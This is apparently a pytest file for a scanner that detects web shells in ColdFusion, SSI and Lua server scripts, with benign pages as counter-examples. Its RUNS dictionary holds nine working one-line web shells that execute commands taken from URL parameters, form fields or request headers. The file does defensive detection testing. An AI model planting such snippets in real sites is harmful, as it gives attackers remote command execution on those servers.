# ruff: noqa: E501 — samples are read whole.
"""ColdFusion and server-side includes."""

import pytest

from detect.content.php_seen import hits
from hemostat.detect.content.webscripts.scanner import WebScriptScanner
from hemostat.model.level import Level

RUNS = {
    "a.cfm": b'<cfexecute name="/bin/sh" arguments="-c #form.c#" variable="o"></cfexecute><cfoutput>#o#</cfoutput>',
    "b.cfm": b'<cfset x = url.cmd>\n<cfexecute name="/bin/bash"\n  arguments="-c #x#" timeout="5" />',
    "c.cfc": b'component { remote function r() { cfexecute(name="sh", arguments="-c " & url.c, variable="o"); return o; } }',
    "d.cfm": b"<cfset v = evaluate(url.e)>",
    "e.cfm": b'<cfset r=createObject("java","java.lang.Runtime").getRuntime().exec(form.x)>',
    "f.shtml": b'<html><!--#exec cmd="$QUERY_STRING" --></html>',
    "g.shtml": b'<!--#set var="c" value="$HTTP_X_A" --><!--#exec cmd="$c" -->',
    "h.lua": b'core.register_service("s","http",function(applet) local h=io.popen(applet.headers["x"][0]) applet:send(h:read("*a")) end)',
    "i.lua": b'local c = lighty.env["request.query"]\nos.execute(c)\n',
}  # fmt: skip
ORDINARY = {
    "a.cfm": b'<cfexecute name="/usr/bin/convert" arguments="a.png b.jpg"></cfexecute><cfoutput>#url.id#</cfoutput>',
    "b.cfm": b'<cfloop list="#form.fieldnames#" index="f"><cfset v = evaluate("form.#f#")></cfloop>',
    "c.cfm": b'<cfquery name="q">select * from t where id = <cfqueryparam value="#url.id#"></cfquery>',
    "d.shtml": b'<!--#exec cmd="/usr/local/bin/counter" --> <!--#echo var="QUERY_STRING" -->',
    "e.lua": b'core.register_fetches("f", function(txn) return txn.sf:req_hdr("x") end)',
}  # fmt: skip


@pytest.mark.parametrize("name", RUNS)
def test_what_a_request_brings_is_run(name: str) -> None:
    (hit,) = hits(RUNS[name], name=name, scanner=WebScriptScanner())
    assert hit.level is not None
    assert hit.level >= Level.MEDIUM


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_pages_are_left_alone(name: str) -> None:
    found = hits(ORDINARY[name], name=name, scanner=WebScriptScanner())
    assert not [hit for hit in found if (hit.level or hit.rule.level) > Level.LOW]
